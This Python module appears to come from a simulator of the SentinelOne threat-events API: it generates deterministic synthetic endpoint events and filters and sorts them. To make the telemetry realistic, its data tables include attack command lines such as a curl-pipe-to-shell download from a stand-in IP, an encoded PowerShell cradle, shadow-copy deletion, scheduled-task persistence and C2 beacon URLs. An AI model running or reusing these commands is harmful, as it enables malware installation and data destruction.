"""Event data served by the simulator, and selecting (filtering + sorting) it.

Which threat ids have events:

* ``SEED_THREAT_ID`` (``1569749506546751259``) serves the two events of the real captured response
  in ``seed.py``, verbatim.
* Synthetic threats: a 19-digit id ``1700000000000NNNNNN`` (the prefix ``1700000000000`` followed
  by six digits N) has exactly ``min(N, MAX_SYNTHETIC_EVENTS)`` generated events.  They are
  deterministic: the same threat id always yields the same events in the same order, on every
  machine and every run (``random.Random`` seeded from the threat id, and for each event's
  details from the threat id and the event's index).
* Any other decimal id is a threat without events.  SentinelOne answers a query whose filters match
  nothing with ``200`` and ``{"data": [], "pagination": {"nextCursor": null, "totalItems": 0}}``
  rather than ``404``, and the simulator answers unknown threat ids the same way.

Synthetic events carry exactly the keys of the seed events.  To keep memory and start-up small
they are kept as compact ``Row`` tuples holding only what filtering and sorting need; the full
SentinelOne-shaped dictionary is built when a page is written (``Threat.expand``).  Rows are made
lazily on first use of a threat and cached (least recently used threats are evicted beyond
``max_cached_events``).
"""

import datetime
import hashlib
import random
import threading
import uuid
from bisect import bisect
from collections import OrderedDict
from itertools import accumulate
from operator import attrgetter
from typing import Any, Callable, Dict, FrozenSet, List, NamedTuple, Optional, Tuple

from .seed import SEED_EVENTS, SEED_THREAT_ID

SYNTHETIC_PREFIX = "1700000000000"
MAX_SYNTHETIC_EVENTS = 100_000

#: objectType -> the eventType values it has (first one is the most common).
EVENT_TYPES: Dict[str, Tuple[str, ...]] = {
    "process": ("Process Creation", "Process Termination"),
    "file": ("File Creation", "File Modification", "File Deletion", "File Rename"),
    "ip": ("IP Connect", "IP Listen"),
    "dns": ("DNS Resolved", "DNS Unresolved"),
    "registry": ("Registry Value Modified", "Registry Key Create", "Registry Value Delete"),
    "url": ("GET", "POST"),
    "scheduled_task": ("Task Register", "Task Start", "Task Trigger"),
    "module": ("Module Load",),
    "logins": ("Login", "Logout"),
    "indicators": ("Behavioral Indicators",),
}

#: eventType -> the ``eventSubTypes`` code that selects it.
EVENT_SUBTYPES: Dict[str, str] = {
    "Process Creation": "PROCESSCREATION",
    "Process Termination": "PROCESSTERMINATION",
    "File Creation": "FILECREATION",
    "File Modification": "FILEMODIFICATION",
    "File Deletion": "FILEDELETION",
    "File Rename": "FILERENAME",
    "IP Connect": "TCPV4",
    "IP Listen": "TCPV4LISTEN",
    "DNS Resolved": "DNS",
    "DNS Unresolved": "DNSUNRESOLVED",
    "Registry Value Modified": "REGVALUEMODIFIED",
    "Registry Key Create": "REGKEYCREATE",
    "Registry Value Delete": "REGVALUEDELETE",
    "GET": "GET",
    "POST": "POST",
    "Task Register": "TASKREGISTER",
    "Task Start": "TASKSTART",
    "Task Trigger": "TASKTRIGGER",
    "Module Load": "MODULELOAD",
    "Login": "LOGIN",
    "Logout": "LOGOUT",
    "Behavioral Indicators": "BEHAVIORALINDICATORS",
}

#: Values the ``eventTypes`` parameter accepts (SentinelOne's documented list).  ``events`` is
#: accepted but no event here has that objectType, so it selects nothing.
KNOWN_OBJECT_TYPES: FrozenSet[str] = frozenset(
    {
        "events",
        "file",
        "ip",
        "url",
        "dns",
        "process",
        "registry",
        "scheduled_task",
        "indicators",
        "logins",
        "module",
    }
)

#: The keys of every event (those of the captured seed events, alphabetical).
EVENT_KEYS: Tuple[str, ...] = tuple(SEED_EVENTS[0])

_EPOCH = datetime.datetime(1970, 1, 1)  # naive UTC: isoformat() then has no offset


class Row(NamedTuple):
    """One event, reduced to what filtering and sorting read, plus how to rebuild it."""

    index: int
    proc: int  # index into the threat's process pool (-1 for the seed threat)
    id: str
    created_us: int  # createdAt, microseconds since the epoch
    object_type: str
    event_type: str
    sub_type: str
    process_name: Optional[str]
    pid: Optional[int]
    file_size: Optional[int]
    file_type: Optional[str]
    registry_path: Optional[str]
    registry_id: Optional[str]
    registry_classification: Optional[str]


class Selection(NamedTuple):
    """What a request selects: filters and order.  Hashable; part of every cursor."""

    object_types: Tuple[str, ...] = ()
    sub_types: Tuple[str, ...] = ()
    name_like: Optional[str] = None  # already lower-cased
    event_id: Optional[str] = None
    sort_by: str = "createdAt"
    descending: bool = False


def format_time(us: int) -> str:
    """SentinelOne's createdAt format: ``2021-12-14T20:23:45.999000Z`` or ``...:46Z``."""
    return (_EPOCH + datetime.timedelta(microseconds=us)).isoformat() + "Z"


def parse_time(text: str) -> int:
    delta = datetime.datetime.fromisoformat(text.rstrip("Z")) - _EPOCH
    return (delta.days * 86_400 + delta.seconds) * 1_000_000 + delta.microseconds


def synthetic_count(threat_id: str) -> Optional[int]:
    """N for a synthetic threat id ``1700000000000NNNNNN``, else None."""
    if len(threat_id) == 19 and threat_id.startswith(SYNTHETIC_PREFIX) and threat_id.isdigit():
        return min(int(threat_id[len(SYNTHETIC_PREFIX) :]), MAX_SYNTHETIC_EVENTS)
    return None


class Threat:
    """A threat's events: ``rows`` in default order (createdAt, id), ``expand`` to the event."""

    rows: List[Row]

    def expand(self, row: Row) -> Dict[str, Any]:
        raise NotImplementedError


class SeedThreat(Threat):
    def __init__(self, events: List[Dict[str, Any]]) -> None:
        self._events = events
        rows = [_row_from_event(index, event) for index, event in enumerate(events)]
        self.rows = sorted(rows, key=default_order)

    def expand(self, row: Row) -> Dict[str, Any]:
        return self._events[row.index]


def _row_from_event(index: int, event: Dict[str, Any]) -> Row:
    pid = event.get("pid")
    return Row(
        index=index,
        proc=-1,
        id=event["id"],
        created_us=parse_time(event["createdAt"]),
        object_type=event["objectType"],
        event_type=event["eventType"],
        sub_type=EVENT_SUBTYPES.get(event["eventType"], ""),
        process_name=event.get("processName"),
        pid=int(pid) if isinstance(pid, str) and pid.isdigit() else None,
        file_size=event.get("fileSize"),
        file_type=event.get("fileType"),
        registry_path=event.get("registryPath"),
        registry_id=event.get("registryId"),
        registry_classification=event.get("registryClassification"),
    )


# --- synthetic threats -----------------------------------------------------------------------

# (name, image path, command line, publisher); publisher None means unsigned.
_PROGRAMS: Tuple[Tuple[str, str, str, Optional[str]], ...] = (
    (
        "powershell.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand "
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "MICROSOFT WINDOWS",
    ),
    ("cmd.exe", "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all", "MICROSOFT WINDOWS"),
    (
        "chrome.exe",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        '"chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1712',
        "GOOGLE LLC",
    ),
    (
        "svchost.exe",
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "MICROSOFT WINDOWS PUBLISHER",
    ),
    ("explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "MICROSOFT WINDOWS"),
    (
        "rundll32.exe",
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\Users\\Public\\update.dll,DllRegisterServer",
        "MICROSOFT WINDOWS",
    ),
    (
        "WINWORD.EXE",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        '"WINWORD.EXE" /n "C:\\Users\\jdoe\\Downloads\\Invoice_0443.docm"',
        "MICROSOFT CORPORATION",
    ),
    (
        "OUTLOOK.EXE",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        '"OUTLOOK.EXE" /recycle',
        "MICROSOFT CORPORATION",
    ),
    (
        "schtasks.exe",
        "C:\\Windows\\System32\\schtasks.exe",
        'schtasks.exe /create /sc minute /mo 15 /tn "OneDrive Sync" /tr C:\\Users\\Public\\s.exe',
        "MICROSOFT WINDOWS",
    ),
    (
        "wmic.exe",
        "C:\\Windows\\System32\\wbem\\WMIC.exe",
        "wmic.exe shadowcopy delete /nointeractive",
        "MICROSOFT WINDOWS",
    ),
    (
        "msedge.exe",
        "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        '"msedge.exe" --single-argument https://login.example.net/',
        "MICROSOFT CORPORATION",
    ),
    ("s.exe", "C:\\Users\\Public\\s.exe", "C:\\Users\\Public\\s.exe -beacon 300", None),
    ("bash", "/usr/bin/bash", "bash -c 'curl -fsSL http://203.0.113.50/x.sh | sh'", None),
    ("scp", "/usr/bin/scp", "scp -t /home/swimlane-host/", None),
    ("curl", "/usr/bin/curl", "curl -fsSL http://203.0.113.50/x.sh", None),
    ("python3", "/usr/bin/python3.10", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'", None),
)
_PROGRAM_WEIGHTS = (14, 12, 8, 10, 5, 5, 4, 3, 3, 2, 4, 4, 6, 4, 3, 2)

# objectType -> (its share of synthetic events, weights of its EVENT_TYPES in that order).
_MIX: Dict[str, Tuple[int, Tuple[int, ...]]] = {
    "process": (24, (5, 1)),
    "file": (26, (5, 4, 2, 1)),
    "ip": (12, (6, 1)),
    "dns": (9, (5, 1)),
    "registry": (8, (5, 2, 1)),
    "url": (6, (3, 1)),
    "module": (6, (1,)),
    "scheduled_task": (3, (2, 2, 1)),
    "logins": (2, (3, 1)),
    "indicators": (4, (1,)),
}
_TYPE_CHOICES = [(kind, name) for kind in _MIX for name in EVENT_TYPES[kind]]
_TYPE_CUMULATIVE = list(
    accumulate(
        share * weight / sum(weights) for share, weights in _MIX.values() for weight in weights
    )
)
_FILE_TYPES = ("PE", "PE", "PDF", "ZIP", "SCRIPT", "DOCX", "ELF", "", None)
_FILES = (
    "C:\\Users\\jdoe\\AppData\\Local\\Temp\\~DF{n:04X}.tmp",
    "C:\\Users\\jdoe\\Downloads\\Invoice_{n:04d}.docm",
    "C:\\Users\\Public\\update{n}.dll",
    "C:\\Windows\\Temp\\svc{n}.ps1",
    "C:\\ProgramData\\OneDrive\\cache_{n}.zip",
    "C:\\Users\\jdoe\\Documents\\Q{n}_report.pdf",
    "/home/swimlane-host/.cache/x{n}.sh",
    "/home/swimlane-host/.local/share/.{n:x}",
)
_REGISTRY_PATHS = (
    "MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync",
    "MACHINE\\SYSTEM\\CurrentControlSet\\Services\\WinDefend\\Start",
    "USER\\S-1-5-21-3623811015-3361044348-30300820-1013\\Software\\Microsoft\\Windows"
    "\\CurrentVersion\\Explorer\\RunMRU\\a",
    "MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware",
    "MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell",
    "MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Lsa\\Security Packages",
    "USER\\S-1-5-21-3623811015-3361044348-30300820-1013\\Environment\\UserInitMprLogonScript",
)
_REGISTRY_CLASSES = ("Autoruns", "Services", "Security Providers", "Unclassified", None)
_DOMAINS = (
    "login.microsoftonline.com",
    "update.example-cdn.net",
    "c2.badactor.example",
    "raw.githubusercontent.com",
    "settings-win.data.microsoft.com",
    "x9f3.duckdns.org",
)
_URLS = (
    "https://update.example-cdn.net/v2/check?id={n}",
    "http://203.0.113.50/x.sh",
    "https://c2.badactor.example/api/beacon/{n:x}",
    "https://login.example.net/common/oauth2/token",
)
_INDICATORS = (
    ("PowershellExecutionPolicyBypass", "Evasion", "Powershell execution policy bypass"),
    ("ShadowCopyDelete", "Ransomware", "Volume shadow copies were deleted"),
    ("SuspiciousScheduledTask", "Persistence", "A scheduled task runs a file from a public path"),
    ("ReflectiveDllLoad", "Injection", "A module was loaded reflectively"),
    ("CredentialDumping", "Credential Access", "LSASS memory was read"),
)
_USERS = ("ACME\\jdoe", "NT AUTHORITY\\SYSTEM", "ACME\\svc_backup", "root")


class _Process(NamedTuple):
    name: str
    pid: int
    image_path: str
    cmd: str
    publisher: Optional[str]
    sha1: str
    group_id: str
    start_us: int
    user: str
    parent: int  # index of the parent in the pool, -1 for none


def _hex(*parts: object, length: int = 40) -> str:
    digest = hashlib.sha256("|".join(str(part) for part in parts).encode()).hexdigest()
    return (digest * 2)[:length]


def _uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


class SyntheticThreat(Threat):
    """``count`` deterministic events for ``threat_id``."""

    def __init__(self, threat_id: str, count: int) -> None:
        self.threat_id = threat_id
        rng = random.Random(f"sentinelone-simulator:{threat_id}")
        self._seed = int(threat_id) * 1_000_003
        base_us = (1_672_531_200 + rng.randrange(400 * 86_400)) * 1_000_000
        agent_ip = f"10.{rng.randrange(1, 255)}.{rng.randrange(1, 255)}.{rng.randrange(2, 250)}"
        self._agent_ip = agent_ip
        self._template: Dict[str, Any] = dict.fromkeys(EVENT_KEYS)
        self._template.update(
            agentDomain="ACME",
            agentGroupId=str(1_286_405_255_265_411_734 + rng.randrange(10**12)),
            agentId=str(1_286_438_987_267_469_377 + rng.randrange(10**12)),
            agentInfected=True,
            agentIp=agent_ip,
            agentIsActive=rng.random() < 0.8,
            agentIsDecommissioned=False,
            agentMachineType=rng.choice(("desktop", "laptop", "server")),
            agentName=f"ACME-WS-{rng.randrange(1000, 9999)}",
            agentNetworkStatus=rng.choice(("connected", "disconnected")),
            agentOs="windows",
            agentUuid=_uuid(rng),
            agentVersion=rng.choice(("22.3.4.612", "23.1.2.400", "23.2.3.358")),
            siteName=rng.choice(("Default site", "HQ", "Remote Workers")),
        )
        self._procs = self._make_processes(rng, base_us)
        self.rows = self._make_rows(rng, count, base_us)

    def _make_processes(self, rng: random.Random, base_us: int) -> List[_Process]:
        procs: List[_Process] = []
        for i in range(24):
            name, path, cmd, publisher = rng.choices(_PROGRAMS, _PROGRAM_WEIGHTS)[0]
            procs.append(
                _Process(
                    name=name,
                    pid=rng.randrange(400, 65_000),
                    image_path=path,
                    cmd=cmd,
                    publisher=publisher,
                    sha1=_hex("image", path, length=40),
                    group_id=_uuid(rng),
                    start_us=base_us - rng.randrange(1, 3600) * 1_000_000,
                    user=rng.choice(_USERS),
                    parent=rng.randrange(i) if i and rng.random() < 0.8 else -1,
                )
            )
        return procs

    def _make_rows(self, rng: random.Random, count: int, base_us: int) -> List[Row]:
        rows: List[Row] = []
        total = _TYPE_CUMULATIVE[-1]
        id_base = 1_600_000_000_000_000_000 + rng.randrange(10**17)
        draw, bits = rng.random, rng.getrandbits  # much faster than randrange in this loop
        procs = len(self._procs)
        for index in range(count):
            kind, event_type = _TYPE_CHOICES[bisect(_TYPE_CUMULATIVE, draw() * total)]
            proc = int(draw() * procs)
            # Mostly in index order, some out of order, some sharing a timestamp; whole seconds
            # now and then so both of SentinelOne's createdAt spellings occur.
            created_ms = base_us // 1000 + index * 250 + int(draw() * 4000) - 2000
            if draw() < 0.1:
                created_ms -= created_ms % 1000
            file_size = file_type = reg_path = reg_id = reg_class = None
            if kind == "file" or kind == "module":
                file_type = (
                    "PE" if kind == "module" else _FILE_TYPES[int(draw() * len(_FILE_TYPES))]
                )
                if event_type != "File Deletion":
                    file_size = int(rng.lognormvariate(10, 2.2))
            elif kind == "registry":
                reg_path = _REGISTRY_PATHS[int(draw() * len(_REGISTRY_PATHS))]
                reg_id = str(1_500_000_000_000_000_000 + bits(56))
                reg_class = _REGISTRY_CLASSES[int(draw() * len(_REGISTRY_CLASSES))]
            process = self._procs[proc]
            rows.append(
                Row(  # index, proc, id, created_us, object_type, event_type, sub_type, ...
                    index,
                    proc,
                    str(id_base + index * 65_536 + bits(16)),
                    created_ms * 1000,
                    kind,
                    event_type,
                    EVENT_SUBTYPES[event_type],
                    process.name,
                    process.pid,
                    file_size,
                    file_type,
                    reg_path,
                    reg_id,
                    reg_class,
                )
            )
        rows.sort(key=default_order)
        return rows

    def expand(self, row: Row) -> Dict[str, Any]:
        rng = random.Random(self._seed + row.index)
        proc = self._procs[row.proc]
        unique_key = f"{proc.group_id}_{proc.pid}"
        event = dict(self._template)
        event.update(
            createdAt=format_time(row.created_us),
            eventType=row.event_type,
            id=row.id,
            objectType=row.object_type,
            pid=str(proc.pid),
            processDisplayName=proc.name.rsplit(".", 1)[0] if proc.publisher else proc.name,
            processGroupId=proc.group_id,
            processImageSha1Hash=proc.sha1,
            processName=proc.name,
            processUniqueKey=unique_key,
            relatedToThreat=rng.random() < 0.3,
            storyline=proc.group_id,
            trueContext=proc.group_id,
            sha1=proc.sha1,
            fileSha1=proc.sha1,
            signedStatus="signed" if proc.publisher else "unsigned",
            verifiedStatus="verified" if proc.publisher else rng.choice(("", None)),
        )
        if rng.random() < 0.8:
            event.update(
                processImagePath=proc.image_path,
                processCmd=proc.cmd,
                processUserName=proc.user,
                processStartTime=format_time(proc.start_us),
                processIntegrityLevel=rng.choice(("HIGH", "MEDIUM", "SYSTEM")),
                processSessionId=str(rng.randrange(0, 3)),
                processSubSystem="SYS_WIN32" if proc.image_path[0] == "C" else None,
                processIsWow64="False",
                processIsRedirectedCommandProcessor="False",
                publisher=proc.publisher,
                user=proc.user,
                tid=str(rng.randrange(1000, 30000)),
            )
        if proc.parent >= 0:
            parent = self._procs[proc.parent]
            event.update(
                parentPid=str(parent.pid),
                parentProcessName=parent.name,
                parentProcessUniqueKey=f"{parent.group_id}_{parent.pid}",
                rpid=str(parent.pid),
            )
        else:
            event["processRoot"] = "True"
        getattr(self, "_expand_" + row.object_type)(event, row, rng)
        return event

    def _expand_process(self, event: Dict[str, Any], row: Row, rng: random.Random) -> None:
        event["md5"] = _hex("md5", event["processImageSha1Hash"], length=32)

    def _expand_file(self, event: Dict[str, Any], row: Row, rng: random.Random) -> None:
        path = rng.choice(_FILES).format(n=rng.randrange(1, 9999))
        event.update(
            fileFullName=path,
            fileId=f"{rng.randrange(10**5, 10**6)}_fanotify" if path[0] == "/" else None,
            fileSha1=_hex("sha1", path, row.index),
            fileSha256=_hex("sha256", path, row.index, length=64) if rng.random() < 0.6 else None,
            fileMd5=_hex("md5", path, row.index, length=32) if rng.random() < 0.4 else None,
            fileSize=row.file_size,
            fileType=row.file_type,
        )
        if row.event_type in ("File Modification", "File Rename"):
            event.update(
                oldFileName=path + ".bak" if row.event_type == "File Rename" else path,
                oldFileSha1=_hex("old", path, row.index),
                oldFileMd5=_hex("oldmd5", path, row.index, length=32),
                oldFileSha256=_hex("old256", path, row.index, length=64),
            )
        if row.file_type in ("DOCX", "PDF"):
            has_active = rng.random() < 0.5
            event["hasActiveContent"] = has_active
            if has_active:
                event.update(
                    activeContentFileId=str(rng.randrange(10**5, 10**6)),
                    activeContentHash=_hex("active", path),
                    activeContentPath=path + ":vbaProject.bin",
                )

    def _expand_ip(self, event: Dict[str, Any], row: Row, rng: random.Random) -> None:
        outgoing = row.event_type == "IP Connect"
        remote = rng.choice(("203.0.113.50", "198.51.100.7", "52.96.165.18", "142.250.74.110"))
        port = rng.choice((443, 80, 8080, 445, 3389, 53)) if outgoing else rng.choice((445, 3389))
        ephemeral = rng.randrange(49152, 65535)
        event.update(
            direction="OUTGOING" if outgoing else "INCOMING",
            connectionStatus=rng.choice(("SUCCESS", "SUCCESS", "FAILURE")),
            protocol="TCP",
            srcIp=self._agent_ip if outgoing else remote,
            dstIp=remote if outgoing else self._agent_ip,
            srcPort=ephemeral if outgoing else rng.randrange(1024, 65535),
            # Real consoles are not consistent about the port's JSON type.
            dstPort=port if rng.random() < 0.85 else str(port),
        )

    def _expand_dns(self, event: Dict[str, Any], row: Row, rng: random.Random) -> None:
        domain = rng.choice(_DOMAINS)
        event["dnsRequest"] = domain
        if row.event_type == "DNS Resolved":
            address = f"{rng.randrange(1, 223)}.{rng.randrange(256)}.{rng.randrange(256)}.7"
            event["dnsResponse"] = f"type:  1 {address};"

    def _expand_registry(self, event: Dict[str, Any], row: Row, rng: random.Random) -> None:
        event.update(
            registryPath=row.registry_path,
            registryId=row.registry_id,
            registryClassification=row.registry_classification,
        )

    def _expand_url(self, event: Dict[str, Any], row: Row, rng: random.Random) -> None:
        event.update(
            networkUrl=rng.choice(_URLS).format(n=rng.randrange(1, 99999)),
            networkMethod=row.event_type,
            networkSource=rng.choice(("Chrome", "Edge", "WinHTTP", None)),
        )

    def _expand_module(self, event: Dict[str, Any], row: Row, rng: random.Random) -> None:
        dll = rng.choice(("amsi.dll", "clr.dll", "dbghelp.dll", "update.dll", "vaultcli.dll"))
        folder = "C:\\Users\\Public\\" if dll == "update.dll" else "C:\\Windows\\System32\\"
        event.update(
            fileFullName=folder + dll,
            fileSha1=_hex("module", dll),
            fileSize=row.file_size,
            fileType=row.file_type,
            md5=_hex("module-md5", dll, length=32),
        )

    def _expand_scheduled_task(self, event: Dict[str, Any], row: Row, rng: random.Random) -> None:
        name = rng.choice(("OneDrive Sync", "GoogleUpdateTaskMachineUA", "WinDefendScan"))
        event.update(taskName=name, taskPath=f"\\{name}")

    def _expand_logins(self, event: Dict[str, Any], row: Row, rng: random.Random) -> None:
        event.update(
            loginsUserName=rng.choice(("jdoe", "administrator", "svc_backup")),
            loginsBaseType=rng.choice(("INTERACTIVE", "NETWORK", "REMOTE_INTERACTIVE")),
        )

    def _expand_indicators(self, event: Dict[str, Any], row: Row, rng: random.Random) -> None:
        name, category, description = rng.choice(_INDICATORS)
        event.update(
            indicatorName=name,
            indicatorCategory=category,
            indicatorDescription=description,
            indicatorMetadata=f"Process {event['processName']} (pid {event['pid']})",
        )


# --- selection -------------------------------------------------------------------------------


def default_order(row: Row) -> Tuple[int, int, str]:
    """createdAt, then id (decimal ids compare numerically as (length, text))."""
    return (row.created_us, len(row.id), row.id)


#: sortBy value -> key.  Rows with a None key go last in both directions.
SORT_KEYS: Dict[str, Callable[[Row], Any]] = {
    "id": lambda row: (len(row.id), row.id),
    "createdAt": attrgetter("created_us"),
    "eventType": attrgetter("event_type"),
    "fileSize": attrgetter("file_size"),
    "fileType": attrgetter("file_type"),
    "registryPath": attrgetter("registry_path"),
    "registryId": attrgetter("registry_id"),
    "registryClassification": attrgetter("registry_classification"),
    "pid": attrgetter("pid"),  # numerically, although the JSON value is a string
    "processName": lambda row: None if row.process_name is None else row.process_name.lower(),
}


def select(rows: List[Row], selection: Selection) -> List[Row]:
    """The rows (given in default order) matching ``selection``'s filters, in its order.

    Sorting is stable, so rows with equal sort values stay in default order (createdAt, id)
    whichever the direction.
    """
    kinds = frozenset(selection.object_types)
    codes = frozenset(selection.sub_types)
    like = selection.name_like
    chosen = [
        row
        for row in rows
        if (not kinds or row.object_type in kinds)
        and (not codes or row.sub_type in codes)
        and (like is None or (row.process_name is not None and like in row.process_name.lower()))
        and (selection.event_id is None or row.id == selection.event_id)
    ]
    if selection.sort_by == "createdAt" and not selection.descending:
        return chosen
    key = SORT_KEYS[selection.sort_by]
    present = [row for row in chosen if key(row) is not None]
    present.sort(key=key, reverse=selection.descending)
    return present + [row for row in chosen if key(row) is None]


class EventStore:
    """Threats by id, made on first use, with a small cache of selections.  Thread-safe."""

    def __init__(self, max_cached_events: int = 300_000, max_cached_selections: int = 32) -> None:
        self._lock = threading.Lock()
        self._seed = SeedThreat(SEED_EVENTS)
        self._threats: OrderedDict[str, SyntheticThreat] = OrderedDict()
        self._selections: OrderedDict[Tuple[str, Selection], List[Row]] = OrderedDict()
        self._max_events = max_cached_events
        self._max_selections = max_cached_selections

    def threat(self, threat_id: str) -> Optional[Threat]:
        if threat_id == SEED_THREAT_ID:
            return self._seed
        count = synthetic_count(threat_id)
        if count is None:
            return None
        with self._lock:
            threat = self._threats.get(threat_id)
            if threat is None:
                threat = SyntheticThreat(threat_id, count)
                self._threats[threat_id] = threat
                self._evict_threats()
            self._threats.move_to_end(threat_id)
            return threat

    def _evict_threats(self) -> None:
        while len(self._threats) > 1 and (
            sum(len(threat.rows) for threat in self._threats.values()) > self._max_events
        ):
            gone, _ = self._threats.popitem(last=False)
            for key in [key for key in self._selections if key[0] == gone]:
                del self._selections[key]

    def select(self, threat_id: str, selection: Selection) -> Tuple[Optional[Threat], List[Row]]:
        """The threat (None when it has no events) and its rows chosen by ``selection``."""
        threat = self.threat(threat_id)
        if threat is None:
            return None, []
        key = (threat_id, selection)
        with self._lock:
            rows = self._selections.get(key)
            if rows is None:
                rows = select(threat.rows, selection)
                self._selections[key] = rows
                if len(self._selections) > self._max_selections:
                    self._selections.popitem(last=False)
            self._selections.move_to_end(key)
            return threat, rows
